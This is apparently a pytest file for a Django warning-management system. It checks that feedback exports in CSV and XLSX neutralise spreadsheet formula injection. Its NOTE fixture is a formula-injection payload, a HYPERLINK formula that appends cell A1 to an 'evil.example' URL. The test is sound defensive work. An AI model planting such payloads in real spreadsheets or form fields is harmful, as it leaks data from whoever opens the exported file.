"""Formulas typed into the system leave it inert (issue 11 item 5, OWASP CSV injection): a
home-check note written as =HYPERLINK(...) comes out of the department's feedback CSV with a
leading quote and out of its XLSX as a text cell; ID-like numbers and dates are unchanged."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from fangfan.accounts.models import DEPARTMENTS, Role
from fangfan.departments.models import DeptWarning
from fangfan.departments.services import feed_import
from tests.departments.conftest import county, written  # noqa: F401 - the generated county
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
COUNTY_CODE = "341225000000"
NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_it_quotes_a_formula_note_in_the_feedback_csv_and_keeps_it_text_in_the_xlsx(client, county):  # noqa: F811
    for department in DEPARTMENTS:
        feed_import(actor=None, department=department, path=county / f"{department}.csv")
    warning = DeptWarning.objects.filter(department="医保").first()
    client.force_login(UserFactory(username="rr", role=Role.COUNTY_RR, region_code=COUNTY_CODE))
    client.post(f"/warnings/{warning.pk}/verify/", {"outcome": "no_risk", "note": NOTE})
    assert DeptWarning.objects.get(pk=warning.pk).outcome == "no_risk"

    client.force_login(UserFactory(username="yb", role=Role.COUNTY_DEPT, region_code=COUNTY_CODE, department="医保"))
    text = client.get("/warnings/feedback/?format=csv").content.decode("utf-8-sig")
    line = next(r for r in csv.reader(io.StringIO(text)) if r[0] == str(warning.pk))
    assert line[11] == "'" + NOTE
    assert all(not c.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(text)) for c in row)
    assert line[6][:4].isdigit()  # dates and numbers are left as they are

    book = client.get("/warnings/feedback/?format=xlsx").content
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    rows = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_index(0).to_python()
    assert NOTE in next(r for r in rows if str(r[0]) in (str(warning.pk), f"{warning.pk}.0"))
